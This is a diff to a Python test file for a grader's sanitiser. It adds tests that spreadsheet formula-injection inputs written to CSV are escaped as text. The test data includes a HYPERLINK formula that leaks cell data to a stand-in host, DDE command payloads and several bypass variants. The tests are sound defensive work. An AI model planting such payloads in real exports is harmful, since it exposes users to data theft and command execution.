@@ -7,7 +7,7 @@ import nbformat
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
 
-from dlmed.grader.sanitize import BLOCKED_OUTPUT_NOTE, clean_html, clean_markdown, sanitize_notebook
+from dlmed.grader.sanitize import BLOCKED_OUTPUT_NOTE, clean_html, clean_markdown, sanitize_notebook, spreadsheet_safe
 
 ACTIVE = re.compile(r"<\s*(script|iframe|object|embed|svg|style|form|meta|link|base)\b|\bon[a-z]+\s*=|javascript:",
                     re.IGNORECASE)
@@ -192,3 +192,31 @@ def test_preprocessor_runs_where_nbgrader_lists_it():
     exporter.register_preprocessor("dlmed.course.grading.SanitizeStudentContent")  # as nbgrader's converters do
     converted, _ = exporter.from_notebook_node(_notebook_with_everything())
     assert "onerror" not in converted and "alert(" not in converted, "the listed sanitiser did not run"
+
+
+# Spreadsheet formulas in what the grader writes to CSV (names from the learning platform,
+# student ids, notes, the similarity report): each attack and what a spreadsheet gets.
+FORMULA_ATTACKS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("=cmd|' /C calc'!A0", "\'=cmd|' /C calc'!A0"),  # DDE
+    ("+1+cmd|' /C calc'!A0", "\'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "\'-2+3"),
+    ("@SUM(A1:A9)", "\'@SUM(A1:A9)"),
+    ("\t=1+1", "\'\t=1+1"),
+    ("\r=1+1", "\'\r=1+1"),
+    ('  "=1+1', '\'  "=1+1'),  # blanks and quotes before the formula
+    ("\uff1d1+1", "\'\uff1d1+1"),  # fullwidth equals sign
+    ("Ada Lovelace", "Ada Lovelace"),  # ordinary text unchanged
+    ("ada_1001", "ada_1001"),
+]
+
+
+@pytest.mark.parametrize("attack, outcome", FORMULA_ATTACKS)
+def test_spreadsheet_safe(attack, outcome):
+    """A cell that a spreadsheet would run as a formula is written as text (a leading quote)."""
+    assert spreadsheet_safe(attack) == outcome, f"spreadsheet_safe({attack!r}) = {spreadsheet_safe(attack)!r}"
+
+
+def test_spreadsheet_safe_keeps_numbers():
+    """Scores stay numbers (a negative one too), and None stays empty."""
+    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(3) == 3 and spreadsheet_safe(None) is None
